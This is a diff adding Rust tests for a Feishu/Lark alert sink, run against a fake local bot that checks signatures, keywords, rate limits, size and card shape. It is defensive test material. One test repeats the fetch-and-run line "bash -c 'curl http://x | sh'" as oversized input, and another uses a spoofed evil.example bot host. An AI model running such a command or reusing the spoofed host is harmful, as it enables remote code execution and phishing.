@@ -1,0 +1,831 @@
+//! The Feishu/Lark sink against a fake custom bot on 127.0.0.1 that behaves like Feishu's: it
+//! verifies the body signature (timestamp in seconds, HMAC keyed by `timestamp\nsecret` over
+//! nothing) when the bot has a secret, checks the keyword, enforces 5 a second and 100 a
+//! minute (scaled) answering the real code 11232, refuses bodies over its size limit with 9499
+//! and checks the card's shape. Through the real delivery worker on a real store: a storm of
+//! alerts arrives folded into digests, every finding exactly once, no 11232.
+//!
+//! No sleeps for synchronisation: waits are on the fake's request log (a `watch` channel bumped
+//! on every request), each with a generous timeout that only turns a hang into a failure.
+
+mod corpus;
+
+use std::collections::HashMap;
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex, PoisonError};
+use std::time::{Duration, Instant};
+
+use axum::Router;
+use axum::body::Bytes;
+use axum::extract::{Path, State};
+use axum::routing::post;
+use base64::Engine;
+use corpus::corpus;
+use hmac::{Hmac, Mac};
+use sasrelay::config::DeliverySettings;
+use sasrelay::delivery::Worker;
+use sasrelay::event::{Event, EventKind, OutboxEntry, Payload};
+use sasrelay::finding::{Detail, Domain, Finding, Severity};
+use sasrelay::render::feishu::card_text;
+use sasrelay::render::sample_event;
+use sasrelay::sinks::{Outcome, Sink, SinkConfig};
+use sasrelay::store::Store;
+use serde_json::{Value, json};
+use sha2::Sha256;
+use tokio::net::TcpListener;
+use tokio::sync::{Notify, watch};
+use tokio_util::sync::CancellationToken;
+
+fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
+    m.lock().unwrap_or_else(PoisonError::into_inner)
+}
+
+fn sink(text: &str, env: &[(&str, &str)]) -> Sink {
+    let c: SinkConfig = toml::from_str(text).unwrap_or_else(|e| panic!("{e}\n{text}"));
+    let env: HashMap<String, String> = env
+        .iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+    Sink::build_with(&c, |k| env.get(k).cloned()).unwrap_or_else(|e| panic!("{e}"))
+}
+
+/// One attempt, waiting for the sink's rate limiter first (as the worker does).
+async fn deliver(s: &Sink, p: &Payload) -> Outcome {
+    loop {
+        match s.deliver(p, 1).await {
+            Outcome::Throttled { after } => tokio::time::sleep(after).await,
+            other => return other,
+        }
+    }
+}
+
+fn finding(n: usize, title: &str, severity: Severity) -> Finding {
+    let mut f = sample_event(Domain::Alerts).finding.unwrap();
+    f.fingerprint = format!("{n:064}");
+    f.id = format!("alert:{n}");
+    f.title = title.into();
+    f.severity = severity;
+    f
+}
+
+fn event_of(f: Finding) -> Event {
+    Event::about(
+        EventKind::New,
+        f,
+        0,
+        "",
+        None,
+        time::OffsetDateTime::now_utc(),
+    )
+}
+
+fn reason(o: &Outcome) -> String {
+    match o {
+        Outcome::Delivered { detail } => detail.clone(),
+        Outcome::Retry { reason, .. } => reason.clone(),
+        Outcome::Permanent { reason, response } => format!("{reason} {response:?}"),
+        Outcome::Throttled { after } => format!("throttled {after:?}"),
+    }
+}
+
+/// An alert with `s` in every text field a renderer prints.
+fn hostile(n: usize, s: &str) -> Payload {
+    let mut f = finding(n, s, Severity::High);
+    f.description = s.into();
+    f.alert_type = s.into();
+    f.kubernetes.cluster_name = Some(s.into());
+    f.kubernetes.namespace = Some(s.into());
+    f.kubernetes.pod = Some(s.into());
+    f.kubernetes.container_name = Some(s.into());
+    f.kubernetes.image = Some(s.into());
+    f.host.instance_name = Some(s.into());
+    f.cves = vec![s.into()];
+    for d in &mut f.details {
+        d.value = s.into();
+    }
+    f.details.push(Detail {
+        name: s.into(),
+        value: s.into(),
+    });
+    event_of(f).into()
+}
+
+// ---------------------------------------------------------------------------------------------
+// The fake Feishu bot
+
+/// How one fake bot behaves.
+#[derive(Clone)]
+struct BotRules {
+    secret: Option<String>,
+    keyword: Option<String>,
+    /// Most requests in any `second` and in any `minute` (Feishu: 5 in 1 s, 100 in 60 s).
+    per_second: usize,
+    second: Duration,
+    per_minute: usize,
+    minute: Duration,
+    max_bytes: usize,
+}
+
+impl Default for BotRules {
+    fn default() -> Self {
+        BotRules {
+            secret: None,
+            keyword: None,
+            per_second: 5,
+            second: Duration::from_secs(1),
+            per_minute: 100,
+            minute: Duration::from_secs(60),
+            max_bytes: 20_000,
+        }
+    }
+}
+
+#[derive(Clone, Debug)]
+struct BotRequest {
+    hook: String,
+    code: i64,
+    size: usize,
+    body: Value,
+}
+
+impl BotRequest {
+    fn text(&self) -> String {
+        card_text(&self.body).to_string()
+    }
+}
+
+#[derive(Default)]
+struct Book {
+    rules: HashMap<String, BotRules>,
+    seen: HashMap<String, Vec<Instant>>,
+    log: Vec<BotRequest>,
+}
+
+#[derive(Clone)]
+struct FakeFeishu {
+    book: Arc<Mutex<Book>>,
+    bump: Arc<watch::Sender<usize>>,
+    addr: SocketAddr,
+}
+
+/// The signature, computed independently of sasrelay: key = "{ts}\n{secret}", message empty.
+fn feishu_sign(secret: &str, ts: &str) -> String {
+    let mac = Hmac::<Sha256>::new_from_slice(format!("{ts}\n{secret}").as_bytes()).unwrap();
+    base64::engine::general_purpose::STANDARD.encode(mac.finalize().into_bytes())
+}
+
+const COLOURS: [&str; 13] = [
+    "blue",
+    "wathet",
+    "turquoise",
+    "green",
+    "yellow",
+    "orange",
+    "red",
+    "carmine",
+    "violet",
+    "purple",
+    "indigo",
+    "grey",
+    "default",
+];
+
+/// Why a card is malformed, if it is.
+fn shape_problem(b: &Value) -> Option<&'static str> {
+    if b["msg_type"] != "interactive" {
+        return Some("msg_type");
+    }
+    let card = &b["card"];
+    if !card.is_object() {
+        return Some("card is not an object");
+    }
+    let template = card["header"]["template"].as_str().unwrap_or_default();
+    if !COLOURS.contains(&template) {
+        return Some("header.template");
+    }
+    if card["header"]["title"]["tag"] != "plain_text"
+        || !card["header"]["title"]["content"].is_string()
+    {
+        return Some("header.title");
+    }
+    let Some(elements) = card["elements"].as_array() else {
+        return Some("elements");
+    };
+    for e in elements {
+        let ok = match e["tag"].as_str() {
+            Some("div") => e["text"]["tag"] == "lark_md" && e["text"]["content"].is_string(),
+            Some("action") => e["actions"].as_array().is_some_and(|a| {
+                a.iter().all(|b| {
+                    b["tag"] == "button"
+                        && b["text"]["tag"] == "plain_text"
+                        && b["url"].as_str().is_some_and(|u| u.starts_with("https://"))
+                })
+            }),
+            Some("note") => e["elements"].is_array(),
+            Some("hr") => true,
+            _ => false,
+        };
+        if !ok {
+            return Some("element");
+        }
+    }
+    None
+}
+
+async fn bot_hook(
+    State(fake): State<FakeFeishu>,
+    Path(hook): Path<String>,
+    body: Bytes,
+) -> axum::Json<Value> {
+    let now = Instant::now();
+    let parsed: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
+    let mut book = lock(&fake.book);
+    let answer = |code: i64, msg: &str| json!({"code": code, "msg": msg, "data": {}});
+    let reply = 'reply: {
+        let Some(rules) = book.rules.get(&hook).cloned() else {
+            break 'reply answer(
+                19001,
+                "param invalid: incoming webhook access token invalid",
+            );
+        };
+        let seen = book.seen.entry(hook.clone()).or_default();
+        seen.push(now);
+        let within = |w: Duration| seen.iter().filter(|t| now.duration_since(**t) < w).count();
+        if within(rules.second) > rules.per_second || within(rules.minute) > rules.per_minute {
+            break 'reply answer(
+                11232,
+                "frequency limited psm[lark.oapi.app_platform_runtime]appID[1500]",
+            );
+        }
+        if body.len() > rules.max_bytes || parsed.is_null() {
+            break 'reply answer(9499, "Bad Request");
+        }
+        if let Some(secret) = &rules.secret {
+            let ts = parsed["timestamp"].as_str().unwrap_or_default();
+            let sign = parsed["sign"].as_str().unwrap_or_default();
+            let now_s = time::OffsetDateTime::now_utc().unix_timestamp();
+            let fresh = ts.parse::<i64>().is_ok_and(|t| (now_s - t).abs() <= 3600);
+            if !fresh || sign != feishu_sign(secret, ts) {
+                break 'reply answer(
+                    19021,
+                    "sign match fail or timestamp is not within one hour from current time",
+                );
+            }
+        }
+        if shape_problem(&parsed).is_some() {
+            break 'reply answer(9499, "Bad Request");
+        }
+        if let Some(k) = &rules.keyword {
+            let title = parsed["card"]["header"]["title"]["content"]
+                .as_str()
+                .unwrap_or_default();
+            if !title.contains(k.as_str()) && !card_text(&parsed).contains(k.as_str()) {
+                break 'reply answer(19024, "Key Words Not Found");
+            }
+        }
+        json!({"StatusCode": 0, "StatusMessage": "success", "code": 0, "data": {}, "msg": "success"})
+    };
+    book.log.push(BotRequest {
+        hook,
+        code: reply["code"].as_i64().unwrap(),
+        size: body.len(),
+        body: parsed,
+    });
+    let n = book.log.len();
+    drop(book);
+    fake.bump.send_replace(n);
+    axum::Json(reply)
+}
+
+impl FakeFeishu {
+    async fn start(bots: &[(&str, BotRules)]) -> FakeFeishu {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let mut book = Book::default();
+        for (h, r) in bots {
+            book.rules.insert(h.to_string(), r.clone());
+        }
+        let fake = FakeFeishu {
+            book: Arc::new(Mutex::new(book)),
+            bump: Arc::new(watch::channel(0).0),
+            addr: listener.local_addr().unwrap(),
+        };
+        let app = Router::new()
+            .route("/open-apis/bot/v2/hook/{hook}", post(bot_hook))
+            .with_state(fake.clone());
+        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+        fake
+    }
+
+    fn url(&self, hook: &str) -> String {
+        format!("http://{}/open-apis/bot/v2/hook/{hook}", self.addr)
+    }
+
+    fn log(&self) -> Vec<BotRequest> {
+        lock(&self.book).log.clone()
+    }
+
+    async fn wait_for(&self, what: &str, limit: Duration, done: impl Fn(&[BotRequest]) -> bool) {
+        let mut rx = self.bump.subscribe();
+        let deadline = tokio::time::Instant::now() + limit;
+        loop {
+            if done(&self.log()) {
+                return;
+            }
+            if tokio::time::timeout_at(deadline, rx.changed())
+                .await
+                .is_err()
+            {
+                panic!(
+                    "timed out waiting for {what}; {} requests",
+                    self.log().len()
+                );
+            }
+        }
+    }
+}
+
+/// A Feishu sink's TOML: the URL from `FS_URL`, then `extra`.
+fn feishu_sink(extra: &str) -> String {
+    format!("name = \"fs\"\ntype = \"feishu\"\nurl = {{ env = \"FS_URL\" }}\n{extra}")
+}
+
+// ---------------------------------------------------------------------------------------------
+// Signing
+
+#[test]
+fn feishu_sign_vectors_are_reproduced_and_differ_from_dingtalk() {
+    // Copied from shared/sinks/vectors (computed by the reference implementation).
+    let vectors: Value =
+        serde_json::from_str(include_str!("fixtures/sinks/feishu_sign.json")).expect("vectors");
+    let vectors = vectors["vectors"].as_array().unwrap();
+    assert!(vectors.len() >= 3, "every vector of the fixture");
+    for v in vectors {
+        let secret = v["secret"].as_str().unwrap();
+        let ts = v["timestamp_s"].as_i64().unwrap();
+        let want = v["sign"].as_str().unwrap();
+        let got = sasrelay::sinks::feishu::sign(secret, ts);
+        assert_eq!(got, want, "{}", v["name"]);
+        assert_eq!(feishu_sign(secret, &ts.to_string()), want);
+        assert_ne!(got, v["NOT_this_dingtalk_style_value"].as_str().unwrap());
+        let example = &v["request_body_example"];
+        let body = sasrelay::sinks::feishu::signed_body(
+            &json!({"msg_type": example["msg_type"], "content": example["content"]}),
+            secret,
+            ts,
+        );
+        assert_eq!(&body, example, "{}", v["name"]);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Storm
+
+const FS_SECRET: &str = "qNwUZcLm9RbJf3kq2XyTtB";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_alert_storm_is_folded_within_the_bot_budget_every_finding_once() {
+    // Feishu's numbers scaled by 1/10: 5 per 100 ms and 100 per 6 s. The sink sends one per
+    // 65 ms (the default 650 ms scaled the same way).
+    let rules = BotRules {
+        secret: Some(FS_SECRET.into()),
+        keyword: Some("SAS".into()),
+        second: Duration::from_millis(100),
+        minute: Duration::from_secs(6),
+        ..Default::default()
+    };
+    let fake = FakeFeishu::start(&[("storm", rules)]).await;
+    let dir = tempfile::tempdir().unwrap();
+    let store = Store::open(dir.path()).unwrap();
+    let s = sink(
+        &feishu_sink(
+            "secret = { env = \"FS_SECRET\" }\nkeyword = \"SAS\"\nat_user_ids = [\"ou_oncall\"]\nmention_min_severity = \"high\"\nrate_limit = { period = \"65ms\", burst = 1 }\n",
+        ),
+        &[("FS_URL", &fake.url("storm")), ("FS_SECRET", FS_SECRET)],
+    );
+    let n = 200;
+    let titles: Vec<String> = (0..n).map(|i| format!("storm finding {i:04}")).collect();
+    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
+    for (i, t) in titles.iter().enumerate() {
+        let e = event_of(finding(i, t, Severity::ALL[i % 5]));
+        store
+            .enqueue("fs", &OutboxEntry::new(e.into(), now_ms))
+            .unwrap();
+    }
+    let policy = DeliverySettings {
+        retry_initial_delay: Duration::from_millis(200),
+        ..Default::default()
+    };
+    let token = CancellationToken::new();
+    let worker = Worker::new(Arc::new(s), store.clone(), policy, Arc::new(Notify::new()));
+    let task = tokio::spawn(worker.run(token.clone()));
+    let all_there = |log: &[BotRequest]| {
+        let text: String = log
+            .iter()
+            .filter(|r| r.code == 0)
+            .map(BotRequest::text)
+            .collect();
+        titles.iter().all(|t| text.contains(t.as_str()))
+    };
+    fake.wait_for(
+        "every finding delivered",
+        Duration::from_secs(120),
+        all_there,
+    )
+    .await;
+    token.cancel();
+    task.await.unwrap();
+
+    let log = fake.log();
+    let refused: Vec<i64> = log.iter().filter(|r| r.code != 0).map(|r| r.code).collect();
+    assert!(refused.is_empty(), "refused: {refused:?}");
+    let text: String = log.iter().map(BotRequest::text).collect();
+    for t in &titles {
+        assert_eq!(text.matches(t.as_str()).count(), 1, "{t}");
+    }
+    assert_eq!(store.depth("fs"), 0);
+    let digests = log
+        .iter()
+        .filter(|r| r.text().matches("storm finding").count() > 1)
+        .count();
+    assert!(digests > 0, "the backlog was folded");
+    assert!(
+        log.len() < n / 2,
+        "{} messages for {n} alerts: not folded",
+        log.len()
+    );
+    // Every message has critical or high members (a digest of 20 of the five severities), so
+    // every one mentions the configured user, and only that user.
+    for r in &log {
+        assert!(r.text().contains("<at id=ou_oncall></at>"), "{}", r.text());
+        assert_eq!(r.text().matches("<at ").count(), 1);
+        assert_eq!(r.body["card"]["header"]["template"], "red");
+    }
+    eprintln!(
+        "storm: {n} alerts -> {} messages ({digests} digests), largest body {} bytes",
+        log.len(),
+        log.iter().map(|r| r.size).max().unwrap()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Classification
+
+#[tokio::test]
+async fn refusals_are_permanent_with_a_hint_and_never_leak_the_hook_id() {
+    let fake = FakeFeishu::start(&[
+        (
+            "h-signed-42",
+            BotRules {
+                secret: Some("right-secret".into()),
+                ..Default::default()
+            },
+        ),
+        (
+            "h-kw-17",
+            BotRules {
+                keyword: Some("告警关键词".into()),
+                ..Default::default()
+            },
+        ),
+    ])
+    .await;
+    let p: Payload = sample_event(Domain::Alerts).into();
+    let fast = "rate_limit = { period = \"1ms\" }\n";
+    let cases = [
+        ("h-unknown-91", "", "`url`", 19001),
+        (
+            "h-signed-42",
+            "secret = { env = \"FS_SECRET\" }\n",
+            "`secret`",
+            19021,
+        ),
+        ("h-signed-42", "", "`secret`", 19021),
+        ("h-kw-17", "", "`keyword`", 19024),
+    ];
+    for (hook, extra, hint, code) in cases {
+        let s = sink(
+            &feishu_sink(&format!("{fast}{extra}")),
+            &[("FS_URL", &fake.url(hook)), ("FS_SECRET", "wrong-secret")],
+        );
+        let o = deliver(&s, &p).await;
+        let text = reason(&o);
+        assert!(matches!(o, Outcome::Permanent { .. }), "{hook}: {text}");
+        assert!(text.contains(hint), "{hook}: {text}");
+        assert!(text.contains(&format!("code {code}")), "{hook}: {text}");
+        assert!(!text.contains(hook), "hook id leaked: {text}");
+        assert!(!text.contains("wrong-secret"), "secret leaked: {text}");
+    }
+    // With the keyword configured, the same bot takes the message.
+    let s = sink(
+        &feishu_sink(&format!("{fast}keyword = \"告警关键词\"\n")),
+        &[("FS_URL", &fake.url("h-kw-17"))],
+    );
+    let o = deliver(&s, &p).await;
+    assert!(o.is_delivered(), "{}", reason(&o));
+    let last = fake.log().pop().unwrap();
+    assert!(last.text().contains("告警关键词"));
+}
+
+#[tokio::test]
+async fn frequency_limited_is_a_retry_and_too_large_renders_smaller() {
+    let fake = FakeFeishu::start(&[
+        (
+            "tight",
+            BotRules {
+                per_second: 0,
+                ..Default::default()
+            },
+        ),
+        (
+            "small",
+            BotRules {
+                max_bytes: 4000,
+                ..Default::default()
+            },
+        ),
+    ])
+    .await;
+    let mut f = finding(1, "big", Severity::High);
+    f.details = (0..20)
+        .map(|k| Detail {
+            name: format!("field {k}"),
+            value: "v".repeat(500),
+        })
+        .collect();
+    let p: Payload = event_of(f).into();
+    let s = sink(
+        &feishu_sink("rate_limit = { period = \"1ms\" }\n"),
+        &[("FS_URL", &fake.url("tight"))],
+    );
+    match deliver(&s, &p).await {
+        Outcome::Retry { after, reason } => {
+            assert!(reason.contains("11232"), "{reason}");
+            assert!(after.is_some_and(|a| a >= Duration::from_secs(1)));
+        }
+        other => panic!("{other:?}"),
+    }
+
+    let s = sink(
+        &feishu_sink("rate_limit = { period = \"1ms\" }\n"),
+        &[("FS_URL", &fake.url("small"))],
+    );
+    let mut outcomes = Vec::new();
+    for _ in 0..5 {
+        let o = deliver(&s, &p).await;
+        let done = o.is_delivered();
+        outcomes.push(reason(&o));
+        if done {
+            break;
+        }
+    }
+    assert!(
+        outcomes.last().unwrap().starts_with("code 0"),
+        "{outcomes:?}"
+    );
+    assert!(outcomes.len() > 1, "the first body fit: {outcomes:?}");
+    assert!(outcomes[0].contains("9499") && outcomes[0].contains("level 1"));
+    let log = fake.log();
+    let sizes: Vec<usize> = log
+        .iter()
+        .filter(|r| r.hook == "small")
+        .map(|r| r.size)
+        .collect();
+    assert!(sizes.windows(2).all(|w| w[1] < w[0]), "{sizes:?}");
+    assert!(*sizes.last().unwrap() <= 4000);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Untrusted text and sizes
+
+/// Removes `**Label**` spans (the template's own bold labels: letters, spaces, `&`, CJK).
+fn without_bold_labels(s: &str) -> String {
+    let mut out = String::new();
+    let mut rest = s;
+    while let Some(i) = rest.find("**") {
+        out.push_str(&rest[..i]);
+        let after = &rest[i + 2..];
+        match after.find("**") {
+            Some(j)
+                if j > 0
+                    && j <= 40
+                    && after[..j]
+                        .chars()
+                        .all(|c| c.is_alphabetic() || c == ' ' || c == '&') =>
+            {
+                rest = &after[j + 2..];
+            }
+            _ => {
+                out.push_str("**");
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Every string in a JSON value.
+fn strings(v: &Value, out: &mut Vec<String>) {
+    match v {
+        Value::String(s) => out.push(s.clone()),
+        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
+        Value::Object(o) => o.values().for_each(|x| strings(x, out)),
+        _ => {}
+    }
+}
+
+#[tokio::test]
+async fn injection_corpus_adds_no_mention_link_or_markup() {
+    let rules = BotRules {
+        per_second: 1_000_000,
+        per_minute: 1_000_000,
+        ..Default::default()
+    };
+    let fake = FakeFeishu::start(&[("inj", rules)]).await;
+    let s = sink(
+        &feishu_sink("at_user_ids = [\"ou_configured\"]\nrate_limit = { period = \"1ms\" }\n"),
+        &[("FS_URL", &fake.url("inj"))],
+    );
+    let corpus = corpus();
+    for (i, entry) in corpus.iter().enumerate() {
+        let o = deliver(&s, &hostile(i, entry)).await;
+        assert!(o.is_delivered(), "entry {i}: {}", reason(&o));
+    }
+    let log = fake.log();
+    assert_eq!(log.len(), corpus.len());
+    let trusted = sample_event(Domain::Alerts).finding.unwrap().links;
+    for (i, r) in log.iter().enumerate() {
+        let what = format!(
+            "entry {i} ({:?})",
+            corpus[i].chars().take(40).collect::<String>()
+        );
+        assert!(r.size <= 20_000, "{what}");
+        let text = r.text();
+        let mention = "<at id=ou_configured></at>";
+        assert_eq!(text.matches(mention).count(), 1, "{what}: {text}");
+        let rest = without_bold_labels(&text.replace(mention, ""));
+        for bad in ["<", ">", "[", "]", "`", "~", "*", "@", "://", "&lt;", "&#"] {
+            assert!(!rest.contains(bad), "{what}: {bad:?} in {rest}");
+        }
+        // plain_text parts (header, buttons, note): no tags, mentions or live links.
+        let mut plain = Vec::new();
+        strings(&r.body["card"]["header"], &mut plain);
+        strings(&r.body["card"]["elements"][2], &mut plain);
+        for b in r.body["card"]["elements"][1]["actions"]
+            .as_array()
+            .into_iter()
+            .flatten()
+        {
+            strings(&b["text"], &mut plain);
+            let url = b["url"].as_str().unwrap();
+            assert!(
+                trusted.iter().any(|l| l.url == url),
+                "{what}: untrusted button {url}"
+            );
+        }
+        for p in &plain {
+            for bad in ["<", ">", "@", "://"] {
+                assert!(!p.contains(bad), "{what}: {bad:?} in {p}");
+            }
+            assert!(!p.chars().any(char::is_control), "{what}: control in {p:?}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn cjk_emoji_and_huge_command_lines_stay_within_the_limit() {
+    let rules = BotRules {
+        secret: Some(FS_SECRET.into()),
+        per_second: 1_000_000,
+        per_minute: 1_000_000,
+        ..Default::default()
+    };
+    let fake = FakeFeishu::start(&[("big", rules)]).await;
+    let s = sink(
+        &feishu_sink(
+            "secret = { env = \"FS_SECRET\" }\nlang = \"zh\"\nrate_limit = { period = \"1ms\" }\n",
+        ),
+        &[("FS_URL", &fake.url("big")), ("FS_SECRET", FS_SECRET)],
+    );
+    let alphabets = [
+        ("ascii", "bash -c 'curl http://x | sh' ".repeat(4000)),
+        ("cjk", "异常登录进程命令行".repeat(12_000)),
+        ("emoji", "😀🔥🚨".repeat(9000)),
+        ("mixed", "a异😀\"\\\n".repeat(15_000)),
+    ];
+    for (i, (name, s100k)) in alphabets.iter().enumerate() {
+        assert!(s100k.len() >= 100_000, "{name}");
+        let mut f = finding(i, s100k, Severity::Critical);
+        f.description = s100k.clone();
+        f.details = (0..40)
+            .map(|k| Detail {
+                name: format!("命令行 {k}"),
+                value: s100k.clone(),
+            })
+            .collect();
+        f.cves = (0..50).map(|k| format!("CVE-2024-{k:05}")).collect();
+        let p: Payload = event_of(f).into();
+        let o = deliver(&s, &p).await;
+        assert!(o.is_delivered(), "{name}: {}", reason(&o));
+        let r = fake.log().pop().unwrap();
+        assert!(r.size <= 20_000, "{name}: {} bytes", r.size);
+        assert!(r.text().contains("异常") || *name != "cjk", "{name}");
+    }
+    // A digest of 100 huge members too.
+    let members: Vec<Event> = (0..100)
+        .map(|i| event_of(finding(100 + i, &alphabets[1].1, Severity::High)))
+        .collect();
+    let d = sasrelay::event::Digest::new(
+        "backlog",
+        Default::default(),
+        members,
+        time::OffsetDateTime::now_utc(),
+    );
+    let o = deliver(&s, &d.into()).await;
+    assert!(o.is_delivered(), "{}", reason(&o));
+    assert!(fake.log().pop().unwrap().size <= 20_000);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Configuration
+
+#[test]
+fn config_errors_name_the_key_and_position() {
+    let text = "[[source]]\nname = \"prod\"\nregion = \"cn-hangzhou\"\ncredentials = { type = \"access_key\", access_key_id = \"LTAI\", access_key_secret = { env = \"NOT_NEEDED\" } }\n\n\
+                [[sink]]\nname = \"fs\"\ntype = \"feishu\"\n\n\
+                [[sink]]\nname = \"fs2\"\ntype = \"feishu\"\nurl = \"https://open.feishu.cn.evil.example/open-apis/bot/v2/hook/x\"\n\n\
+                [[sink]]\nname = \"fs3\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\nat_mobiles = [\"1380000\"]\n\n\
+                [[sink]]\nname = \"fs4\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\nat_user_ids = [\"ou_ok\", \"<at id=all>\"]\nrate_limit = { period = \"0s\" }\n";
+    let path = std::path::Path::new("/etc/sasrelay/fs.toml");
+    let errs = sasrelay::config::parse(path, text).unwrap_err();
+    let shown = errs.to_string();
+    let find = |key: &str| {
+        errs.0
+            .iter()
+            .find(|e| e.key.starts_with(key))
+            .unwrap_or_else(|| panic!("no error for {key}:\n{shown}"))
+    };
+    let missing = find("sink[0]");
+    assert!(missing.message.contains("url"), "{shown}");
+    assert_eq!((missing.line, missing.column > 0), (6, true), "{shown}");
+    let host = find("sink[1].url");
+    assert!(
+        host.message.contains("not a Feishu or Lark bot host"),
+        "{shown}"
+    );
+    assert!(host.line >= 10, "{shown}");
+    let unknown = find("sink[2]");
+    assert!(
+        unknown.message.contains("unknown key `at_mobiles`"),
+        "{shown}"
+    );
+    let id = find("sink[3].at_user_ids[1]");
+    assert!(id.line > unknown.line, "{shown}");
+    find("sink[3].rate_limit.period");
+    assert!(
+        shown.contains("/etc/sasrelay/fs.toml:6:"),
+        "file:line:col in {shown}"
+    );
+
+    // A secret URL is checked when the sink is built, without being echoed.
+    let c: SinkConfig =
+        toml::from_str("name = \"fs\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\n").unwrap();
+    let e = Sink::build_with(&c, |_| {
+        Some("https://hooks.example/open-apis/bot/v2/hook/SECRET-HOOK-ID".into())
+    })
+    .unwrap_err();
+    assert!(e.contains("url") && e.contains("hooks.example"), "{e}");
+    assert!(!e.contains("SECRET-HOOK-ID"), "{e}");
+    let e = Sink::build_with(&c, |_| None).unwrap_err();
+    assert!(e.contains("url"), "{e}");
+}
+
+#[tokio::test]
+async fn preview_is_the_unsigned_card_and_mentions_follow_the_threshold() {
+    let c: SinkConfig = toml::from_str(
+        "name = \"fs\"\ntype = \"feishu\"\nurl = { env = \"FS\" }\nsecret = { env = \"S\" }\nat_all = true\nmention_min_severity = \"critical\"\n",
+    )
+    .unwrap();
+    let s = Sink::build_with(&c, |k| {
+        Some(match k {
+            "FS" => "https://open.larksuite.com/open-apis/bot/v2/hook/abc".into(),
+            _ => "sec".into(),
+        })
+    })
+    .unwrap();
+    assert!(s.fold().is_some());
+    let mut e = sample_event(Domain::Alerts);
+    e.finding.as_mut().unwrap().severity = Severity::High;
+    let body: Value = serde_json::from_str(&s.preview(&e.clone().into()).unwrap()).unwrap();
+    assert!(body.get("sign").is_none() && body.get("timestamp").is_none());
+    assert!(!card_text(&body).contains("<at"), "below the threshold");
+    e.finding.as_mut().unwrap().severity = Severity::Critical;
+    let body: Value = serde_json::from_str(&s.preview(&e.into()).unwrap()).unwrap();
+    assert!(card_text(&body).ends_with("<at id=all></at>"));
+    assert_eq!(body["card"]["header"]["template"], "red");
+    let debug = format!("{s:?}");
+    assert!(
+        !debug.contains("abc") && !debug.contains("sec\""),
+        "{debug}"
+    );
+}
